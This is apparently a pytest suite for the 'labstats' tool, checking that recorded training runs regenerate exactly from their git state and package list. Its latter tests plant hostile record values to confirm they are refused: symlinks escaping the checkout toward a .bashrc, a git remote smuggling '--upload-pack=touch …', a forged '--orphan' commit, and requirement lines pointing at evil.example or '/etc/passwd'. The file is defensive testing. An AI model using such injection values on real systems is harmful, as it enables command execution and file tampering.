"""A run regenerates from an empty directory: trained from a real git repository with an
uncommitted change and a new untracked module, started from outside the repository, it is
checked out again (the recorded diff applied), rerun, and logs exactly the same losses."""

import shlex
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import labstats
from labstats import cli
from labstats.format import keys
from labstats.read import regenerate

TRAIN_V1 = """
import sys
import numpy as np
import labstats

lr = 0.1
rng = np.random.default_rng(int(sys.argv[sys.argv.index("--seed") + 1]))
w = rng.normal(size=4)
with labstats.Stats("runs/regen", config={"lr": lr}) as stats:
    for step in range(50):
        w -= lr * 2 * w
        stats.log(step=step, loss=float((w ** 2).sum()))
"""
# The uncommitted change: another learning rate and a helper from a new, untracked module.
TRAIN_V2 = TRAIN_V1.replace("lr = 0.1", "from helper import scale\nlr = scale(0.05)")
HELPER = "def scale(x):\n    return x * 1.5\n"


def git(cwd, *args):
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


@pytest.fixture
def repo(tmp_path):
    root = tmp_path / "proj"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "test@example.org")
    git(root, "config", "user.name", "test")
    (root / "train.py").write_text(TRAIN_V1)
    git(root, "add", "train.py")
    git(root, "commit", "-q", "-m", "first")
    (root / "train.py").write_text(TRAIN_V2)  # uncommitted
    (root / "helper.py").write_text(HELPER)  # untracked
    return root


def train(cwd, script, url, monkeypatch) -> str:
    monkeypatch.setenv("LABSTATS_URL", url)
    monkeypatch.setenv("LABSTATS_CAPTURE_FREEZE", "1")
    subprocess.run([sys.executable, str(script), "--seed", "7"], cwd=cwd, check=True, timeout=120)
    return labstats.connect(url).runs(limit=1)[0].id


def test_a_run_started_outside_its_repository_regenerates_exactly(repo, tmp_path, url, monkeypatch):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    original = train(scratch, repo / "train.py", url, monkeypatch)
    lab = labstats.connect(url)
    run = lab.run(original)
    assert run.meta["git_root"] == str(repo)
    assert run.meta["cwd_in_repo"] == ""  # started outside it
    assert "helper.py" in run.diff()  # the untracked module is part of the recorded diff
    status = subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout
    assert "?? helper.py" in status.splitlines()  # recorded without touching the user's index
    assert "numpy==" in run.freeze()
    assert run.regenerate_command().splitlines()[1] == "set -e"

    target = tmp_path / "again"
    # As a person types it in a terminal (the installed command, its own process).
    said = subprocess.run(
        [sys.executable, "-m", "labstats.cli", "regenerate", original, str(target), "--run"],
        cwd=scratch, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert said.returncode == 0, said.stderr
    assert "note: the run started outside its repository" in said.stderr
    assert f"run it:\n  cd {target} && python train.py --seed 7" in said.stdout
    # The packages as recorded, but for lines no other machine could install (an editable
    # install's -e /path, name @ file:///...): left out, and each one said.
    kept, left_out = regenerate.checked_freeze(run.freeze())
    assert (target / "requirements.txt").read_text() == kept
    assert "numpy==" in kept
    for line in left_out:
        assert f"left out of requirements.txt: {line!r}" in said.stderr
    regenerated = lab.runs(limit=1)[0]
    assert regenerated.id != original
    assert regenerated.config == run.config
    assert run.config["lr"] == pytest.approx(0.075)  # the uncommitted change and the helper ran
    assert regenerated.series("loss").values.tolist() == run.series("loss").values.tolist()


def test_a_run_with_a_remote_regenerates_from_the_remote(repo, tmp_path, url, monkeypatch):
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "-q", "origin", "main")
    original = train(repo, "train.py", url, monkeypatch)
    run = labstats.connect(url).run(original)
    assert run.meta["git_remote"] == str(remote)
    assert run.meta["cwd_in_repo"] == "."
    target = tmp_path / "fresh"
    assert cli.main(["--url", url, "regenerate", original, str(target), "--run"]) == 0
    again = labstats.connect(url).runs(limit=1)[0]
    assert again.series("loss").values.tolist() == run.series("loss").values.tolist()


def test_a_diff_that_does_not_apply_is_refused_and_nothing_runs(repo, tmp_path, url, monkeypatch, capsys):
    original = train(repo, "train.py", url, monkeypatch)
    lab = labstats.connect(url)
    broken = textwrap.dedent("""\
        diff --git a/train.py b/train.py
        --- a/train.py
        +++ b/train.py
        @@ -1,1 +1,1 @@
        -this line is not there
        +nor this one
    """)
    lab.redis.set(keys.Keys().diff(original), broken)
    runs_before = len(lab.runs(limit=None))
    assert cli.main(["--url", url, "regenerate", original, str(tmp_path / "x"), "--run"]) == 1
    assert "does not apply" in capsys.readouterr().err
    assert len(lab.runs(limit=None)) == runs_before
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "file").write_text("mine")
    assert cli.main(["--url", url, "regenerate", original, str(tmp_path / "busy")]) == 1
    assert "is not empty" in capsys.readouterr().err


def test_a_run_outside_git_gets_an_honest_recipe(tmp_path, url):
    with labstats.Stats(tmp_path / "plain", capture_git=False):
        pass
    run = labstats.connect(url).runs(limit=1)[0]
    recipe = run.regenerate_command().splitlines()
    assert recipe[0] == "# not started from a git repository: its code was not recorded"
    assert recipe[1:3] == ["set -e", f"cd -- {run.meta['cwd']}"]  # a recorded "-P" is no option
    assert cli.main(["--url", url, "regenerate", run.id, str(tmp_path / "x")]) == 1


def test_a_box_without_git_says_so_instead_of_not_in_a_repository(repo, tmp_path, url, monkeypatch, capsys):
    # A training box without git once recorded "not started from a git repository" for a run
    # inside one; a box without git running regenerate once died with a traceback.
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "python").symlink_to(sys.executable)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))  # a PATH without git
    train(repo, repo / "train.py", url, monkeypatch)
    run = labstats.connect(url).runs(limit=1)[0]
    assert run.meta.get("git_commit") is None
    recipe = run.regenerate_command().splitlines()
    assert recipe[1].startswith("# git is not installed on "), recipe
    assert cli.main(["--url", url, "regenerate", run.id, str(tmp_path / "x")]) == 1
    assert "(git is not installed on " in capsys.readouterr().err
    forged = regenerate.Plan(run_id="r", source=str(repo), commit="a" * 40, dirty=False, workdir="",
                             command=["python", "train.py"])  # fmt: skip
    with pytest.raises(labstats.LabstatsError, match="git is not installed here"):
        regenerate.checkout(forged, "", "", tmp_path / "y")


def test_the_freeze_runs_at_the_lowest_cpu_priority(monkeypatch):
    # It runs beside the first steps of the training: on a busy box it must not slow them.
    from labstats.capture import runmeta

    niceness = []
    real_run = subprocess.run

    def run_and_ask(command, **kwargs):
        if sys.executable in command:  # pip freeze: ask the same way what niceness it gets
            prefix = command[: command.index(sys.executable)]
            asked = real_run([*prefix, sys.executable, "-c", "import os; print(os.nice(0))"], **kwargs)
            niceness.append(asked.stdout.strip())
        return real_run(command, **kwargs)

    monkeypatch.setattr(runmeta.subprocess, "run", run_and_ask)
    assert "numpy==" in runmeta.freeze()
    assert niceness == ["19"]


def test_a_run_started_with_python_c_has_no_command_to_run_again(repo, tmp_path, url, monkeypatch):
    """`python -c` records no code (nor does a notebook): the recipe on the run page says
    so, instead of a `python -c` that fails, and `labstats regenerate --run`, typed in a
    terminal, refuses after the checkout."""
    from labstats.viewer import create_app
    from labstats.viewer.sources import Source

    monkeypatch.setenv("LABSTATS_URL", url)
    code = "import labstats\nwith labstats.Stats('runs/inline') as s: s.log(step=0, loss=1.0)"
    subprocess.run([sys.executable, "-c", code], cwd=repo, check=True, timeout=120)
    run = labstats.connect(url).runs(limit=1)[0]
    said = "started with python -c, whose code is not recorded: no command to run again"
    recipe = run.regenerate_command().splitlines()
    assert recipe[-1] == f"# {said}"
    assert "python -c" not in recipe  # (which fails: "Argument expected for the -c option")
    page = create_app({"local": Source("local", url)}).test_client().get(f"/runs/local/{run.id}")
    assert f"# {said}</pre>" in page.data.decode()
    labstats_command = Path(sys.executable).with_name("labstats")  # the console script
    again = tmp_path / "again"
    done = subprocess.run([labstats_command, "--url", url, "regenerate", run.id, again, "--run"],
                          capture_output=True, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1] == f"labstats: run {run.id}: {said}"
    assert (again / "train.py").exists()  # the code is still checked out

    notebook = {"argv": ["/usr/bin/python3", "/venv/lib/ipykernel_launcher.py", "-f", "/k.json"]}
    assert regenerate.plan("r", notebook).no_command.startswith("started from a notebook")
    repl = {"argv": ["/usr/bin/python3", ""]}
    assert regenerate.plan("r", repl).no_command.startswith("started from an interactive session")
    assert regenerate.plan("r", {"argv": ["/usr/bin/python3", "t.py", "--lr", "1"]}).no_command == ""
    assert regenerate.plan("r", {}).no_command == "its command line was not recorded: no command to run"


# ---- the record is hostile: any training user may rewrite another's diff, packages, remote ----


def symlink_diff(repo, links: dict[str, str]) -> str:
    """A diff, as git writes it, that adds these symlinks (path -> target) to ``repo``'s HEAD."""
    scratch = repo.parent / "symlink-scratch"
    git(repo.parent, "clone", "-q", str(repo), str(scratch))
    for path, target in links.items():
        (scratch / path).parent.mkdir(parents=True, exist_ok=True)
        (scratch / path).symlink_to(target)
    git(scratch, "add", "-A")
    return subprocess.run(["git", "diff", "--cached", "--binary", "HEAD"], cwd=scratch,
                          capture_output=True, text=True, check=True).stdout  # fmt: skip


@pytest.fixture
def forged(repo, tmp_path, url, monkeypatch):
    """A run of ``repo``, and the hostile things an insider may write into its record."""
    run_id = train(repo, "train.py", url, monkeypatch)
    lab = labstats.connect(url)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the victim's shell startup\n")
    return lab, run_id, home / ".bashrc"


@pytest.mark.parametrize("target", ["absolute", "relative"])
def test_a_diff_that_makes_requirements_txt_a_link_out_of_the_checkout_is_refused(
    forged, repo, tmp_path, capsys, target
):
    lab, run_id, bashrc = forged
    link = str(bashrc) if target == "absolute" else "../home/.bashrc"
    lab.redis.set(keys.Keys().diff(run_id), symlink_diff(repo, {"requirements.txt": link}))
    lab.redis.hset(keys.Keys().run(run_id), "git_dirty", "1")
    lab.redis.set(keys.Keys().freeze(run_id), "evil==1.0\n")
    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
    said = capsys.readouterr().err
    assert f"requirements.txt -> {link} leaves the checkout" in said
    assert bashrc.read_text() == "# the victim's shell startup\n"  # never written through
    assert not (tmp_path / "checkout" / "requirements.txt").is_symlink()  # never created either


def test_links_that_leave_the_checkout_only_once_resolved_are_refused_after_applying(
    forged, repo, tmp_path, capsys
):
    # Each link reads as inside on its own (d -> ., e -> d/../home/.bashrc), but e resolves
    # through d to the checkout's parent: only the tree as applied shows it.
    lab, run_id, bashrc = forged
    lab.redis.set(
        keys.Keys().diff(run_id), symlink_diff(repo, {"d": ".", "requirements.txt": "d/../home/.bashrc"})
    )
    lab.redis.hset(keys.Keys().run(run_id), "git_dirty", "1")
    lab.redis.set(keys.Keys().freeze(run_id), "evil==1.0\n")
    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
    said = capsys.readouterr().err
    assert "requirements.txt -> d/../home/.bashrc leaves the checkout" in said
    assert bashrc.read_text() == "# the victim's shell startup\n"
    assert not (tmp_path / "checkout" / "requirements.txt").exists()  # the link was removed


def test_requirements_txt_is_written_without_following_a_link(tmp_path):
    from labstats.read import regenerate

    outside = tmp_path / "outside.txt"
    outside.write_text("mine\n")
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "requirements.txt").symlink_to(outside)
    with pytest.raises(labstats.LabstatsError, match="not a regular file"):
        regenerate.write_inside(checkout, "requirements.txt", "evil==1.0\n")
    assert outside.read_text() == "mine\n"
    (checkout / "requirements.txt").unlink()
    regenerate.write_inside(checkout, "requirements.txt", "numpy==2.0.0\n")
    assert (checkout / "requirements.txt").read_text() == "numpy==2.0.0\n"


def test_a_remote_that_looks_like_an_option_is_never_taken_as_one(forged, tmp_path, capsys):
    lab, run_id, _ = forged
    pwned = tmp_path / "pwned"
    remote = f"--upload-pack=touch {pwned};"
    lab.redis.hset(keys.Keys().run(run_id), "git_remote", remote)
    recipe = lab.run(run_id).regenerate_command().splitlines()
    assert f"git clone -- {shlex.quote(remote)} DIR" in recipe
    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
    said = capsys.readouterr().err
    assert f"clone --quiet -- {shlex.quote(remote)}" in said
    assert f"repository {remote!r} does not exist" in said
    assert not pwned.exists()


def test_a_recorded_commit_or_folder_that_is_not_one_is_refused(forged, tmp_path, capsys):
    lab, run_id, _ = forged
    key = keys.Keys().run(run_id)
    real = lab.run(run_id).meta["git_commit"]
    lab.redis.hset(key, "git_commit", "--orphan=x")
    assert "git checkout --detach" not in lab.run(run_id).regenerate_command()
    assert cli.main(["regenerate", run_id, str(tmp_path / "a")]) == 1
    assert "is not a commit id" in capsys.readouterr().err
    lab.redis.hset(key, mapping={"git_commit": real, "cwd_in_repo": "../.."})
    assert cli.main(["regenerate", run_id, str(tmp_path / "b")]) == 1
    assert "outside the checkout" in capsys.readouterr().err


HOSTILE_FREEZE = """\
# a comment stays
numpy==1.26.4
torch[cuda]==2.3.0
python=3.11.5=h955ad1f_0
--index-url https://evil.example/simple
--extra-index-url=https://evil.example/simple
-i https://evil.example/simple
--find-links /tmp/wheels
-e git+https://evil.example/x.git#egg=x
-r /etc/passwd
-c constraints.txt
evil @ https://evil.example/evil-1.0.whl
git+https://evil.example/y.git
./local/pkg
/abs/path/pkg
evil.tar.gz
evil==1.0+tar.gz
requests==2.0 --hash=sha256:abcd
ok==1.0 \\
nice==${HOME}
"""


def test_only_plain_pinned_packages_reach_requirements_txt(forged, tmp_path, capsys):
    lab, run_id, _ = forged
    lab.redis.set(keys.Keys().freeze(run_id), HOSTILE_FREEZE)
    assert "--freeze --checked > requirements.txt" in lab.run(run_id).regenerate_command()
    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 0
    written = (tmp_path / "checkout" / "requirements.txt").read_text()
    assert written.splitlines() == ["# a comment stays", "numpy==1.26.4", "torch[cuda]==2.3.0",
                                    "python=3.11.5=h955ad1f_0"]  # fmt: skip
    err = capsys.readouterr().err
    for line in HOSTILE_FREEZE.splitlines()[4:]:
        assert f"left out of requirements.txt: {line!r}" in err
    # The recipe's own step gives the same lines.
    assert cli.main(["show", run_id, "--freeze", "--checked"]) == 0
    assert capsys.readouterr().out == written


def test_nothing_recorded_is_executed_without_run(forged, repo, tmp_path):
    lab, run_id, _ = forged
    marker = tmp_path / "ran"
    (repo / "train.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    diff = subprocess.run(
        ["git", "diff", "--binary", "HEAD"], cwd=repo, capture_output=True, text=True
    ).stdout
    lab.redis.set(keys.Keys().diff(run_id), diff)
    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 0
    assert (tmp_path / "checkout" / "train.py").read_text().startswith("open(")
    assert not marker.exists()
    assert cli.main(["regenerate", run_id, str(tmp_path / "again"), "--run"]) == 0
    assert marker.read_text() == "ran"
